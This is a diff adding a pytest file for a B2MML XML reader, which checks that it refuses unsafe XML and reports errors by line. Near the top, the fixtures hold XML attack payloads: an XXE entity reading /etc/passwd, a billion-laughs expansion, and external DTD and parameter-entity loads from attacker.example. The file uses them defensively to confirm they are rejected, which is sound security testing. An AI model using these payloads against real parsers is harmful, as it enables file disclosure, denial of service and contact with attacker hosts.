@@ -1,0 +1,103 @@
+"""The reader is safe: no DTDs, no entity expansion, no network, bounded size; errors name lines."""
+
+from __future__ import annotations
+
+import pytest
+
+from isa95.b2mml.documents import B2MML
+from isa95.b2mml.schemas import parse_xml
+from isa95.errors import DocumentInvalid, SchemaError, UnsafeXMLError, UnsupportedDocumentError
+
+NS = "http://www.mesa.org/xml/B2MML"
+
+XXE = f"""<?xml version="1.0"?>
+<!DOCTYPE MaterialInformation [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
+<MaterialInformation xmlns="{NS}"><ID>&xxe;</ID></MaterialInformation>""".encode()
+
+BILLION_LAUGHS = (
+    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
+    + b"".join(
+        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode()
+        for i in range(1, 10)
+    )
+    + f']>\n<MaterialInformation xmlns="{NS}"><ID>&lol9;</ID></MaterialInformation>'.encode()
+)
+
+EXTERNAL_DTD = f"""<?xml version="1.0"?>
+<!DOCTYPE MaterialInformation SYSTEM "http://attacker.example/evil.dtd">
+<MaterialInformation xmlns="{NS}"><ID>x</ID></MaterialInformation>""".encode()
+
+PARAMETER_ENTITY = b"""<?xml version="1.0"?>
+<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
+<r/>"""
+
+
+@pytest.mark.parametrize("payload", [XXE, BILLION_LAUGHS, EXTERNAL_DTD, PARAMETER_ENTITY])
+def test_dtd_based_attacks_are_refused(b2mml: B2MML, payload: bytes) -> None:
+    with pytest.raises((UnsafeXMLError, DocumentInvalid)) as info:
+        b2mml.read(payload)
+    assert "root:x:0" not in str(info.value)  # nothing from /etc/passwd leaked
+    with pytest.raises((UnsafeXMLError, DocumentInvalid)):
+        b2mml.validate(payload)
+
+
+def test_billion_laughs_is_refused_quickly() -> None:
+    with pytest.raises(UnsafeXMLError, match="DOCTYPE"):
+        parse_xml(BILLION_LAUGHS)
+
+
+def test_oversize_documents_are_refused() -> None:
+    big = b"<a>" + b"x" * 2000 + b"</a>"
+    with pytest.raises(UnsafeXMLError, match="exceeds"):
+        parse_xml(big, max_bytes=1000)
+
+
+def test_huge_but_allowed_document_parses(b2mml: B2MML) -> None:
+    lots = "".join(f"<MaterialLot><ID>L{i}</ID></MaterialLot>" for i in range(50_000))
+    data = f'<MaterialInformation xmlns="{NS}">{lots}</MaterialInformation>'.encode()
+    document = b2mml.read(data)
+    assert len(document.model.lots) == 50_000
+
+
+def test_not_well_formed_names_the_line(b2mml: B2MML) -> None:
+    data = f'<MaterialInformation xmlns="{NS}">\n<ID>x</ID>\n<Description>\n</MaterialInformation>'.encode()
+    with pytest.raises(DocumentInvalid) as info:
+        b2mml.read(data)
+    assert info.value.issues[0].line == 4
+    assert "not well-formed" in str(info.value)
+
+
+def test_schema_errors_name_element_and_line(b2mml: B2MML) -> None:
+    data = f'<MaterialInformation xmlns="{NS}">\n  <MaterialLot>\n    <Bogus>1</Bogus>\n  </MaterialLot>\n</MaterialInformation>'.encode()
+    with pytest.raises(DocumentInvalid) as info:
+        b2mml.read(data)
+    issue = info.value.issues[0]
+    assert (issue.line, issue.element) == (3, "Bogus")
+    assert "line 3: <Bogus>" in str(info.value)
+
+
+def test_foreign_and_legacy_namespaces_are_refused_clearly(b2mml: B2MML) -> None:
+    with pytest.raises(UnsupportedDocumentError, match="not B2MML V0701 or V0600"):
+        b2mml.read(b'<html xmlns="http://www.w3.org/1999/xhtml"/>')
+    with pytest.raises(UnsupportedDocumentError, match="V0401 documents are not supported"):
+        b2mml.read(b'<SyncMaterialInformation xmlns="http://www.wbf.org/xml/B2MML-V0401"/>')
+    with pytest.raises(UnsupportedDocumentError, match="not a supported document"):
+        b2mml.read(f'<WorkSchedule xmlns="{NS}"/>'.encode())
+
+
+def test_schema_directory_is_required(monkeypatch: pytest.MonkeyPatch, tmp_path) -> None:  # type: ignore[no-untyped-def]
+    monkeypatch.delenv("GXPMES_B2MML_SCHEMAS", raising=False)
+    with pytest.raises(SchemaError, match="GXPMES_B2MML_SCHEMAS"):
+        B2MML()
+    with pytest.raises(SchemaError, match="neither V0701"):
+        B2MML(tmp_path)
+
+
+def test_extension_content_is_kept_not_dropped(b2mml: B2MML) -> None:
+    # V0701 has xsd:any only inside extension groups; a validated document can
+    # carry extension elements there, and the reader keeps them in the tree.
+    from isa95.material import MaterialInformation, MaterialLot
+
+    data = b2mml.write(MaterialInformation(lots=[MaterialLot(id="L1")]), version="V0701")
+    document = b2mml.read(data)
+    assert document.tree["MaterialLot"][0]["ID"] == "L1"
